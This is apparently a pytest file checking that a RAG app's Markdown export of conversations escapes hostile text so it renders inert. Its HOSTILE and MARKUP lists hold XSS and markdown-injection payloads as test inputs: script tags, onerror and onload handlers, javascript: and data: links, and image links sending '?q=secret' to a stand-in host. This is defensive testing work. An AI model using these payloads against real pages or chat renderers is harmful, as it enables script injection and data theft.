"""A conversation as Markdown: complete, and inert whatever stands in it."""

from __future__ import annotations

import random
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragapp.answer.export import conversation_markdown, escape_markdown
from ragapp.contract import Answer, Citation, Conversation, DocumentWarnings, Passage, Sentence, Turn

HOSTILE = [
    "[click](http://evil.example)",
    "![x](http://evil.example/a.png)",
    "<script>alert(1)</script>",
    "<img src=x>",
    "http://evil.example",
    "www.evil.example",
    "mail@evil.example",
    "<http://evil.example>",
    "**bold**",
    "_it_",
    "`code`",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "| a | b |\n|---|---|",
    "[ref]: http://evil.example",
    "&lt;b&gt;",
    "~~x~~",
    "```\ncode",
    "\\",
    "\\[",
    "$x^2$",
    "====",
    "---",
    "&copy;",
    "\x1b[31m",
    "`http://evil`example`",
    "javascript://x",
    "[1]",
    "a  \nb",
    "\u202eabc",
    "``",
    "*",
    "<!--",
    "]]>",
    "+ x",
    "1) x",
    "[^1]: note",
    "![",
    "](",
]
ALLOWED = {"text", "code_inline", "softbreak"}


def inline_types(text):
    found = set()
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        found |= {token.type} | {child.type for child in token.children or ()}
    return found


def shown(text):
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    return "".join(child.content for token in tokens for child in token.children or ())


def conversation(question="What is it?", standalone=None, **answer):
    values = {"answer": "It is £175. [1]", "abstained": False, "confidence": 0.9, **answer}
    made = Answer(question=question, standalone=standalone or " ".join(question.split()), **values)
    day = "2025-05-01T10:00:00"
    return conversation_markdown(Conversation(1, "Hotels", day, day, 1), [Turn(question, made, asked_at=day)])


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_inert(text):
    made = f"x “{escape_markdown(text)}”"
    assert inline_types(made) <= {"paragraph_open", "inline", "paragraph_close"} | ALLOWED
    wanted = " ".join(text.replace("\x1b", " ").replace("\u202e", " ").split())
    assert shown(made) == f"x “{wanted}”"
    assert inline_types(escape_markdown(text)) <= {"paragraph_open", "inline", "paragraph_close"} | ALLOWED


@pytest.mark.parametrize("seed", range(40))
def test_mixed_text_is_inert(seed):
    chance = random.Random(seed)
    text = "".join(chance.choices([*HOSTILE, " ", "word", "\n"], k=12))
    assert inline_types(f"x “{escape_markdown(text)}”") <= {"paragraph_open", "inline", "paragraph_close"} | ALLOWED


def test_hostile_everywhere_makes_no_link_and_no_html():
    text = " ".join(HOSTILE)
    citation = Citation(text, text, 1, text, "sheet", n=1, quote=text, start=0, end=len(text))
    made = conversation(text, text + "?", sentences=(Sentence(text, False, ()),), citations=(citation,))
    types = inline_types(made)
    assert not types & {"link_open", "image", "html_inline", "html_block", "fence", "table_open", "blockquote_open"}
    assert "code_block" not in types


def test_all_of_a_turn_is_there():
    made = conversation(
        "and for Paris?",
        "What is the limit for Paris?",
        sentences=(Sentence("It is €215. [1]", True, (1,)), Sentence("It is nice.", False, ())),
        citations=(Citation("policy.pdf", "/p", 3, n=1, quote="rises from €190\nto €215", start=0, end=23),),
        warnings=(DocumentWarnings(1, "policy.pdf", "/p", ("1 comment was left out.",)),),
    )
    for text in (
        "# Hotels",
        "2025-05-01, 1 question",
        "## 1. and for Paris?",
        "Understood as: What is the limit for Paris?",
        "It is €215. \\[1\\]",
        "It is nice. *(not found in the passages)*",
        "How policy.pdf was read:",
        "- 1 comment was left out.",
        "- \\[1\\] policy.pdf, p. 3: “rises from €190 to €215”",
    ):
        assert text in made.splitlines()


def test_an_abstention_shows_the_nearest_passages():
    passage = Passage("a.md", "/a.md", 2, "", "section", n=1, text="word " * 200, score=0.5)
    made = conversation(answer="Your documents do not say.", abstained=True, passages=(passage,))
    assert "Your documents do not say." in made
    assert "Nearest passages:" in made
    assert "Understood as" not in made
    assert max(map(len, made.splitlines())) < 400


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>1</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//e)}</style>",
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](http://evil.example)",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](http://e/i.png)](http://e)",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "# Heading\n\n***",
    "| a | b |\n|:--|--:|\n| <img src=x> | ![](http://e) |",
    "```html onload=x\n<script>\n```",
    "    <script>indented</script>",
    "`<script>`",
    "- a\n\n3. b",
    "http://evil.example www.evil.example a@evil.example",
    "<!-- --><b>",
    "<math><mtext></mtext><mglyph><style></math>",
    "<a\nhref=x>",
    "\\<script>",
    "![x](//evil.example/a)",
    "=====\nx\n-----",
    "<details open ontoggle=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "~~~\n<script>\n~~~",
]


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found, self.attributes, self.text = set(), [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("attack", MARKUP)
@pytest.mark.parametrize("viewer", ["commonmark", "gfm-like"])
def test_no_viewer_makes_more_of_it_than_text(viewer, attack):
    markdown = MarkdownIt(viewer, {"html": True, "linkify": False}).enable("table")
    elements = Elements(markdown.render(escape_markdown(attack)))
    assert elements.found <= {"p", "code"}
    assert elements.attributes == []
    assert "".join(elements.text.split()) == "".join(attack.split())


@given(st.text(st.sampled_from("<>![]()`*_#-+=|~&;:/.1aw\n\\ \"'$@{}"), max_size=40))
def test_whatever_stands_in_it_is_only_read(text):
    elements = Elements(MarkdownIt("commonmark", {"html": True}).enable("table").render(escape_markdown(text)))
    assert elements.found <= {"p", "code"}


@pytest.mark.parametrize("address", ["http://e.example", "https://e", "HTTP://E", "www.e.example", "mailto:a@b.c"])
def test_bare_addresses_are_code(address):
    assert f"`{address}`" in escape_markdown(f"see {address} now")


def table(*cells):
    """A conversation whose answer is a table with a row of these cells."""
    row = "| " + " | ".join(cell.replace("|", "\\|") for cell in cells) + " |"
    sentence = Sentence(f"| {' | '.join('ABC'[: len(cells)])} |\n|{'---|' * len(cells)}\n{row}", True, ())
    return conversation(answer=sentence.text, sentences=(sentence,))


def test_a_table_stays_one():
    made = table("Hotel", "£175 [1]")
    assert "| A | B |\n| --- | --- |\n| Hotel | £175 \\[1\\] |\n" in made
    html = MarkdownIt("commonmark").enable("table").render(made)
    assert "<td>£175 [1]</td>" in html


@given(st.lists(st.text(st.sampled_from("<>![]()`*_#-+=|~&;:/.1aw\\ \"'$@{}"), min_size=1, max_size=30), max_size=3))
def test_whatever_stands_in_a_cell_is_only_read(cells):
    made = table("a", *cells)
    elements = Elements(MarkdownIt("commonmark", {"html": True}).enable("table").render(made))
    assert elements.found <= {"h1", "h2", "p", "strong", "code", "table", "thead", "tbody", "tr", "th", "td"}
    assert {name for name, _ in elements.attributes} <= set()


@pytest.mark.parametrize(
    ("fields", "lines"),
    [
        ({}, ["**Answered**", "It is £175. \\[1\\]"]),
        (
            {"grade": "likely", "doubt": "Check *it*."},
            ["**Likely: check the page**. Check \\*it\\*.", "It is £175. \\[1\\]"],
        ),
        ({"abstained": True, "answer": "No."}, ["**Not in your documents**", "No."]),
        ({"not_stated": ("the <b>day</b>", "who pays")}, ["Not stated: the \\<b\\>day\\</b\\>; who pays"]),
        (
            {"sentences": (Sentence("- one", True, ()), Sentence("2. two", False, ())), "answer": "- one\n2. two"},
            ["- one", "2. two *(not found in the passages)*"],
        ),
    ],
)
def test_the_grade_its_doubt_and_what_is_not_stated_are_exported(fields, lines):
    assert set(lines) <= set(conversation(**fields).splitlines())


def test_words_of_a_passage_are_exported_as_a_quotation():
    citation = Citation("a.md", "/a.md", 1, n=1, quote="It is £175.", start=0, end=11)
    sentence = Sentence("It is £175. [1]", True, (1,))
    made = conversation(sentences=(sentence,), citations=(citation,), grade="likely")
    assert "> It is £175. \\[1\\]" in made.splitlines()
